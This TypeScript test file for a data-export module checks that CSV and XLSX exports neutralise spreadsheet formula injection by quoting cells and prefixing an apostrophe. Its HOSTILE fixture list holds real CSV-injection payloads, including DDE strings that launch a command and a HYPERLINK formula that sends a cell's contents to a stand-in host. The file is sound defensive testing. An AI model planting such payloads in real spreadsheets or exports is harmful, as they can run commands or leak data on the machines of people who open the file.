// The data export's CSV is opened in spreadsheets: a cell that would run as a formula there is
// written as text (OWASP "CSV Injection": a leading apostrophe, the cell quoted), plain numbers
// stay numbers, the project's own cards.csv is never changed by it, and importing the exported
// file gives back exactly what was exported.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { exportCsv, tableToCsv, unescapeCell } from './csv';
import { readSheet, writeSheet } from './sheet-file';
import { dataFileBytes } from './project-data';

const HOSTILE = [
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '+HYPERLINK("http://example.invalid?leak="&A1,"Click")',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1+1',
  "'=already text",
  "''+two",
  '-',
  '+',
  '@',
  '-2 apples',
];
const SAFE = ['-2', '+3', '-1.5', '-.5', '-1e5', '2e-3', '0', '福', 'a=b', " '=1", '', "'plain", '1-2'];

/** The cells of a CSV text as a spreadsheet's reader splits them (quotes removed). */
const cells = (csv: string): string[][] => Papa.parse<string[]>(csv.trimEnd(), { header: false }).data;

describe('CSV export', () => {
  it('writes every formula-starting cell as quoted text with a leading apostrophe, header included', async () => {
    const table = { columns: ['id', '=HEADER()', 'text'], rows: HOSTILE.map((h, i) => [`C${i}`, 'x', h]) };
    const csv = exportCsv(table);
    const out = cells(csv);
    expect(out[0]).toEqual(['id', "'=HEADER()", 'text']);
    for (const [i, h] of HOSTILE.entries()) expect(out[i + 1]![2]).toBe(`'${h}`);
    // Each such cell is quoted in the file, so no reader splits or trims it.
    expect(csv).toContain(`"'=cmd|' /C calc'!A0"`);
    expect(csv).toContain(`"'-2+3+cmd|' /C calc'!A0"`);
    // The data export (the app's Export data and the CLI's export-data) writes exactly this.
    const exported = await dataFileBytes(table, 'csv');
    expect(exported.ok && Buffer.from(exported.value).toString('utf8')).toBe(csv);
    // No cell of the file starts with a formula character.
    for (const row of out) for (const c of row) expect(c).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('leaves plain numbers, negative ones included, and ordinary text as they are', () => {
    const table = { columns: ['id', 'cost'], rows: SAFE.map((v, i) => [`C${i}`, v]) };
    const out = cells(exportCsv(table));
    expect(out.slice(1).map((r) => r[1])).toEqual(SAFE);
    expect(exportCsv(table)).toBe(tableToCsv(table));
  });

  it('reads its own export back exactly (import of an exported file changes nothing)', async () => {
    const table = { columns: ['id', 'text'], rows: [...HOSTILE, ...SAFE].map((v, i) => [`C${i}`, v]) };
    const bytes = await writeSheet(table, 'csv');
    const back = await readSheet('cards.csv', bytes);
    expect(back.ok && back.value).toEqual(table);
    expect(unescapeCell("'=x")).toBe('=x');
    expect(unescapeCell("'plain")).toBe("'plain");
  });

  it('XLSX export holds every cell as text, never a formula', async () => {
    // (An XLSX cell's text keeps no carriage returns: that case is the CSV's.)
    const cells = HOSTILE.filter((h) => !h.includes('\r'));
    const table = { columns: ['id', 'text'], rows: cells.map((v, i) => [`C${i}`, v]) };
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await writeSheet(table, 'xlsx')) as never);
    const ws = wb.worksheets[0]!;
    for (let r = 2; r <= cells.length + 1; r++) {
      const v = ws.getCell(r, 2).value;
      expect(typeof v, String(v)).toBe('string');
      expect(v).toBe(cells[r - 2]);
    }
  });
});
